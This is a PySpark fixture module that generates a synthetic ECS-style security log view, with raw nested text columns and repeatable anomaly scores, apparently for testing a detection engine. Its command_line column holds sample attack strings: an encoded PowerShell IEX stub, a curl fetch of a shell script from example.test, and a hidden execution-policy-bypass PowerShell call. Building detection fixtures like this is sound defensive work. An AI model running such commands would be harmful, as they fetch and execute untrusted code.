"""The ECS-shaped log view over the ``events`` table, and inputs derived from it.

Every column is one SQL expression understood by Spark and by the checking engine alike, so both
sides read the same definition. See FIXTURES.md for the meaning of the columns.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..session import prepare, spread

_HOST_NUMBER = "(user_id * 7 + event_id % 5) % 40"

LOG_COLUMNS: dict[str, str] = {
    "doc_id": "CAST(event_id AS VARCHAR(20))",
    "event_no": "event_id",
    "ts": "ts",
    "user_name": (
        "CASE WHEN event_id % 23 = 0 THEN NULL WHEN user_id % 17 = 0 THEN 'root' "
        "WHEN user_id % 19 = 0 THEN 'SYSTEM' ELSE concat('user', user_id) END"
    ),
    "host_name": (
        f"CASE WHEN event_id % 31 = 0 THEN NULL WHEN {_HOST_NUMBER} < 3 THEN concat('DC-', {_HOST_NUMBER}) "
        f"WHEN {_HOST_NUMBER} < 8 THEN concat('PROD-', {_HOST_NUMBER}) ELSE concat('WS-', {_HOST_NUMBER}) END"
    ),
    "source_ip": (
        "CASE WHEN event_id % 29 = 0 THEN NULL WHEN event_id % 41 = 0 THEN 'not-an-ip' "
        "WHEN event_id % 43 = 0 THEN '::1' WHEN event_id % 47 = 0 THEN '2001:4860:4860::8888' "
        "WHEN user_id % 5 = 0 THEN concat('10.0.', user_id % 7, '.', user_id % 250) "
        "WHEN user_id % 5 = 1 THEN concat('192.168.1.', user_id % 250) "
        "WHEN user_id % 5 = 2 THEN concat('198.18.0.', user_id % 250) "
        "WHEN user_id % 5 = 3 THEN concat('100.64.0.', user_id % 250) "
        "ELSE concat('8.8.', user_id % 9, '.', user_id % 250) END"
    ),
    "destination_ip": (
        "CASE WHEN event_id % 37 = 0 THEN NULL ELSE concat('203.0.113.', (user_id + event_id % 11) % 60) END"
    ),
    "destination_port": (
        "CASE event_id % 7 WHEN 0 THEN 22 WHEN 1 THEN 80 WHEN 2 THEN 443 WHEN 3 THEN 3389 "
        "WHEN 4 THEN 4444 WHEN 5 THEN 8080 ELSE NULL END"
    ),
    "host_ip": (
        "CASE WHEN event_id % 31 = 0 THEN NULL "
        "WHEN event_id % 2 = 0 THEN concat('127.0.0.1, 10.1.0.', user_id % 40) "
        "ELSE concat('10.1.0.', user_id % 40, ', ::1, 10.2.0.', user_id % 3) END"
    ),
    "event_category": (
        "CASE event_type WHEN 'view' THEN 'file' WHEN 'click' THEN 'authentication' "
        "WHEN 'error' THEN 'authentication' WHEN 'signup' THEN 'process' ELSE 'network' END"
    ),
    "event_action": (
        "CASE event_type WHEN 'view' THEN 'file_modified' WHEN 'click' THEN 'logon' "
        "WHEN 'error' THEN 'login_attempt' "
        "WHEN 'signup' THEN CASE WHEN event_id % 5 = 0 THEN 'sudo' ELSE 'start' END ELSE 'connect' END"
    ),
    "event_outcome": (
        "CASE WHEN event_id % 13 = 0 THEN NULL WHEN event_type = 'error' THEN 'failure' "
        "WHEN event_type = 'purchase' AND event_id % 4 = 0 THEN 'Denied' ELSE 'success' END"
    ),
    "event_kind": "CASE WHEN event_id % 2 = 0 THEN 'info' ELSE 'start' END",
    "event_severity": (
        "CASE event_id % 6 WHEN 0 THEN 'Critical' WHEN 1 THEN 'high' WHEN 2 THEN 'medium' "
        "WHEN 3 THEN 'low' WHEN 4 THEN '3' ELSE NULL END"
    ),
    "process_name": (
        "CASE WHEN event_id % 19 = 0 THEN NULL WHEN event_id % 9 = 0 THEN 'powershell.exe' "
        "WHEN event_id % 9 = 1 THEN 'CMD.EXE' WHEN event_id % 9 = 2 THEN 'certutil.exe' "
        "WHEN event_id % 9 < 6 THEN 'chrome.exe' ELSE 'svchost.exe' END"
    ),
    "parent_name": (
        "CASE WHEN event_id % 17 = 0 THEN NULL WHEN event_id % 9 < 2 THEN 'explorer.exe' ELSE 'svchost.exe' END"
    ),
    "command_line": (
        "CASE WHEN event_id % 11 = 0 THEN NULL "
        "WHEN event_id % 97 = 0 THEN 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA' "
        "WHEN event_id % 89 = 0 THEN 'curl http://example.test/a.sh' "
        "WHEN event_id % 83 = 0 THEN 'powershell -W Hidden -ExecutionPolicy Bypass' "
        "ELSE concat('app --id ', event_id % 50) END"
    ),
    "args_count": "CASE WHEN event_id % 11 = 0 THEN NULL ELSE CAST(event_id % 6 AS INT) END",
    "network_bytes": "CASE WHEN event_type = 'purchase' THEN CAST(floor(value * 10000) AS BIGINT) ELSE NULL END",
    "network_direction": (
        "CASE WHEN event_type <> 'purchase' THEN NULL WHEN event_id % 3 = 0 THEN 'inbound' ELSE 'outbound' END"
    ),
    "file_size": "CASE WHEN event_type = 'view' THEN CAST(floor(value * 100) AS BIGINT) ELSE NULL END",
    "file_name": "CASE WHEN event_type = 'view' THEN concat('doc', event_id % 30, '.txt') ELSE NULL END",
    "tags_text": (
        "CASE WHEN event_id % 3 = 0 THEN concat('[', chr(39), 'alpha', chr(39), ', ', chr(39), 'beta', chr(39), ']') "
        "WHEN event_id % 3 = 1 THEN 'alpha' ELSE NULL END"
    ),
    "ts_text": (
        "CASE WHEN event_id % 53 = 0 THEN '' WHEN event_id % 59 = 0 THEN 'bad' ELSE '2024-01-02T03:04:05Z' END"
    ),
    "bytes_text": "CASE WHEN event_id % 61 = 0 THEN 'n/a' ELSE CAST(event_id % 1000 AS VARCHAR(20)) END",
}

LOGS_SQL = "SELECT " + ", ".join(f"{expr} AS {name}" for name, expr in LOG_COLUMNS.items()) + " FROM events"

# Nested text columns; a back-tick in the template stands for a single quote.
def _quoted(template: str) -> str:
    return f"replace({template}, '`', chr(39))"


_OK_REPR = "CASE WHEN event_outcome = 'success' THEN 'True' ELSE 'None' END"
_OK_JSON = "CASE WHEN event_outcome = 'success' THEN 'true' ELSE 'null' END"
_EVENT_REPR = _quoted(
    "concat('{`kind`: `', event_kind, '`, `category`: `', event_category, '`, `action`: `', event_action, "
    f"'`, `ok`: ', {_OK_REPR}, ', `tags`: [`a`, `b`]" + "}')"
)
_EVENT_JSON = (
    "concat('{\"kind\": \"', event_kind, '\", \"category\": \"', event_category, '\", \"action\": \"', event_action, "
    f"'\", \"ok\": ', {_OK_JSON}, ', \"tags\": [\"a\", \"b\", \"c\", \"d\", \"e\", \"f\"]" + "}')"
)
_HOST_REPR = _quoted(
    "concat('{`name`: `', coalesce(host_name, ''), '`, `os`: {`family`: `win`, `build`: {`major`: ', "
    "event_no % 4, '}}, `ip`: [`10.1.0.', event_no % 40, '`, `::1`]}')"
)
_HOST_JSON = (
    "concat('{\"name\": \"', coalesce(host_name, ''), '\", \"os\": {\"family\": \"nix\", \"build\": {\"major\": ', "
    "event_no % 4, '}}, \"ip\": []}')"
)
_USER_REPR = _quoted("concat('{`name`: `', coalesce(user_name, ''), '`, `meta`: {}}')")
_PROCESS_REPR = _quoted(
    "concat('{`name`: `', coalesce(process_name, ''), '`, `args_count`: ', coalesce(args_count, 0), "
    "', `parent`: {`name`: `', coalesce(parent_name, ''), '`}}')"
)

RAW_COLUMNS_SQL: dict[str, str] = {
    "event_no": "event_no",
    "ts": "ts",
    "event": (
        f"CASE WHEN event_no % 71 = 0 THEN 'oops' WHEN event_no % 2 = 0 THEN {_EVENT_REPR} ELSE {_EVENT_JSON} END"
    ),
    "host": f"CASE WHEN event_no % 2 = 0 THEN {_HOST_REPR} ELSE {_HOST_JSON} END",
    "user": _USER_REPR,
    "process": f"CASE WHEN event_no % 73 = 0 THEN NULL ELSE {_PROCESS_REPR} END",
}
RAW_SQL = "SELECT " + ", ".join(f'{expr} AS "{name}"' for name, expr in RAW_COLUMNS_SQL.items()) + " FROM logs"


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """One of the given parquet tables."""
    return prepare(spark).read.parquet(f"{sf_dir}/{name}.parquet")


def logs_over(events: DataFrame) -> DataFrame:
    """The log view over an events table or stream: one projection, so filters reach the scan."""
    return events.select(*[F.expr(expr).alias(name) for name, expr in LOG_COLUMNS.items()])


def logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    return logs_over(table(spark, sf_dir, "events"))


def spread_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The log view for costly per-row work: never fewer partitions than cores."""
    return logs_over(spread(table(spark, sf_dir, "events")))


def raw_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Nested text columns as a raw log file holds them."""
    return spread_logs(spark, sf_dir).select(*[F.expr(expr).alias(name) for name, expr in RAW_COLUMNS_SQL.items()])


SCORE_SQL = "CAST(event_no * 7919 % 1000 AS DOUBLE) / 999e0"


def scores(logs_df: DataFrame) -> DataFrame:
    """A repeatable anomaly score per event id."""
    return logs_df.select("doc_id", F.expr(SCORE_SQL).alias("anomaly_score"))


def scored(logs_df: DataFrame) -> DataFrame:
    """Logs with the repeatable score and its flag (top twentieth)."""
    return logs_df.withColumn("anomaly_score", F.expr(SCORE_SQL)).withColumn(
        "is_anomaly", F.col("anomaly_score") > 0.95
    )


OPENING_END = "2024-01-01 12:00:00"


def opening(logs_df: DataFrame) -> DataFrame:
    """The opening half day whose entities count as already seen."""
    return logs_df.filter(F.col("ts") < F.lit(OPENING_END).cast("timestamp_ntz"))


def afterwards(logs_df: DataFrame) -> DataFrame:
    return logs_df.filter(F.col("ts") >= F.lit(OPENING_END).cast("timestamp_ntz"))
